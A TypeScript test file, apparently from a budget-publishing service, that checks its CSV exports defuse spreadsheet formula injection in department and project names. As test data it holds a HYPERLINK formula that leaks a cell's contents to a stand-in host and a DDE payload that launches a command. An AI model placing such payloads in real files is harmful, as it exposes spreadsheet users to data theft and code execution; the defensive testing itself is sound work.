import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { useTestApp } from '../support/test-app';
import { loadBudgetFacts } from '../support/guantao-fixture';

/**
 * CSV injection: names a department or project may carry (`=HYPERLINK(…)`, `@SUM(…)`, `+1+1`, `-1+1`, tab- or
 * CR-leading) reach the open-data CSV and the table CSVs as text a spreadsheet will not evaluate.
 */
describe('CSV exports neutralise formula-leading cells', () => {
  const t = useTestApp();

  it('CSV exports neutralise formula-leading names (CSV injection) and keep negative amounts as numbers', async () => {
    const hostile = loadBudgetFacts();
    hostile.department = { ...hostile.department, code: '505', name: '=HYPERLINK("http://evil.example/?x="&A1,"点击")' };
    const names = ["@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-1+1', '\t=1+1', '\r=1+1'];
    names.forEach((name, i) => (hostile.projects[i].name = name));
    const clerk505 = await t.token('department', '505', 'clerk-505');
    const imported = await t.request('POST', '/v1/budgets/505/2024/import', { token: clerk505, body: hostile });
    expect(imported.status).toBe(200);
    const response = await t.app.inject({ method: 'GET', url: `/v1/budgets/505/2024/datapackage?after=${imported.body.position}`, headers: { authorization: `Bearer ${clerk505}` } });
    expect(response.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(response.rawPayload);
    const [header, ...rows]: string[][] = parse(await zip.file('budget-lines-proposed.csv')!.async('string'), { bom: true });
    const column = (name: string) => header.indexOf(name);
    expect(new Set(rows.map((row) => row[column('department_name')]))).toEqual(new Set([`'${hostile.department.name}`]));
    const projectNames = new Set(rows.map((row) => row[column('project_name')]));
    for (const name of names) expect([name, projectNames.has(`'${name}`)]).toEqual([name, true]);
    // No cell a spreadsheet would evaluate; amounts stay plain numbers.
    for (const row of rows) for (const cell of row) expect([cell, /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)]).toEqual([cell, false]);
    for (const row of rows) expect(row[column('amount')]).toMatch(/^\d+\.\d{2}$/);
  });
});
